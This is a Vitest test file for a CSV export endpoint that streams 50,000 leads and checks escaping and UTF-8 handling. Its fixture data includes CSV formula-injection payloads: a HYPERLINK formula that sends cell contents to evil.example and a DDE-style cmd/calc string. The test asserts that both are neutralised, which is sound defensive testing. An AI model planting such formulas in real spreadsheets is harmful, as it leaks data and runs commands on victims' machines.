/**
 * The CSV export at scale and against hostile content: 50,000 leads stream out over real HTTP
 * (chunked, from a cursor), with formula-like cells neutralised and Spanish accents intact.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { AddressInfo } from 'node:net';
import { createTestApp, signedInUser, type TestApp } from './helpers/test-app.js';

let t: TestApp;
let base: string;

beforeAll(async () => {
  t = await createTestApp();
  await t.app.listen({ port: 0, host: '127.0.0.1' });
  base = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
});
afterAll(async () => t?.close());

it('streams 50,000 leads as escaped UTF-8 CSV', async () => {
  const { cookie, orgId } = await signedInUser(t, 'export@example.com');
  const { rows } = await t.pool.query<{ id: string }>(
    `insert into searches (org_id, query, params, fields, max_leads, source, status, stage)
     values ($1, 'peluquerías · Sevilla', '{}', '{phone,website}', 50000, 'osm', 'completed', 'done')
     returning id`,
    [orgId],
  );
  const searchId = rows[0]!.id;
  await t.pool.query(
    `insert into leads (search_id, org_id, place_key, business_name, city, phone, website, email, fields_delivered)
     select $1, $2, 'osm:node/' || n,
       case n % 4 when 0 then '=HYPERLINK("http://evil.example/?x="&A1)'
                  when 1 then 'Peluquería Núñez, "La Única"'
                  when 2 then '@SUM(1+1)*cmd|'' /C calc''!A0'
                  else 'Café ' || n end,
       'Sevilla', '+34 954 00 00 00', 'https://peluqueria' || n || '.es', 'hola@peluqueria.es',
       '{business_name,phone}'
     from generate_series(1, 50000) as n`,
    [searchId, orgId],
  );

  const response = await fetch(`${base}/api/searches/${searchId}/export.csv`, {
    headers: { cookie },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('transfer-encoding')).toBe('chunked');
  expect(response.headers.get('content-length')).toBeNull();
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  // TextDecoder drops the byte-order mark checked above.
  const text = new TextDecoder().decode(bytes);
  const lines = text.split('\r\n');
  expect(lines.at(-1)).toBe('');
  expect(lines).toHaveLength(50_002);
  const header = lines[0]!.split(',');
  const cells = lines[2]!.split(',');
  const cell = (name: string) => cells[header.indexOf(name)];
  expect(cell('business_name')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
  expect(cell('city')).toBe('Sevilla');
  expect(cell('phone')).toBe(`'+34 954 00 00 00`);
  expect(cell('website')).toBe('https://peluqueria2.es');
  expect(cell('email')).toBe('hola@peluqueria.es');
  expect(cell('company_size')).toBe('unknown');
  expect(cell('source_id')).toBe('osm:node/2');
  expect(cells).toHaveLength(header.length);
  expect(text).toContain(`"Peluquería Núñez, ""La Única""",`);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)",`);
  // No line (other than inside quotes) starts a cell with a formula character.
  for (const line of lines.slice(1, 200)) {
    for (const cell of line.match(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
      const value = cell.replace(/^,/, '').replace(/^"/, '');
      expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
}, 60_000);
